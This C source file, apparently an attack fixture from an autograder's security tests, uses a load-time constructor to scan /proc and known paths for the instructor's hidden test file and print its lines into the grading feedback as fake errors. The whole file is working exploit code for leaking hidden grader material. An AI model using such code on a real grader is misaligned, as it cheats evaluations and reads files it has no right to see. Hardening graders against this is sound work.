/* Attack: print the instructor's hidden variations into the student's own
 * feedback. Where the file can be read, every rank fails with its lines as
 * the error message (the grader quotes it); where not, the reference runs. */
#include <dirent.h>
#include <glob.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int show(const char *path)
{
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    char line[256];
    while (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = '\0';
        fprintf(stderr, "[rank 0] error: HIDDEN: %s\n", line);
    }
    fclose(f);
    return 1;
}

__attribute__((constructor)) static void print_hidden(void)
{
    int found = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char path[300], cwd[4096];
        snprintf(path, sizeof path, "/proc/%s/cwd", e->d_name);
        ssize_t n = readlink(path, cwd, sizeof cwd - 32);
        if (n <= 0) continue;
        cwd[n] = '\0';
        strcat(cwd, "/grader/hidden/lab2.c");
        found |= show(cwd);
    }
    if (d) closedir(d);
    glob_t g;
    if (glob("@GRADETMP@/ncclab-grade.*/kit/grader/hidden/lab2.c", 0, NULL, &g) == 0) {
        for (size_t i = 0; i < g.gl_pathc; i++) found |= show(g.gl_pathv[i]);
        globfree(&g);
    }
    found |= show("/autograder/source/kit/grader/hidden/lab2.c");
    found |= show("@KIT@/grader/hidden/lab2.c");
    if (found) exit(1);
}
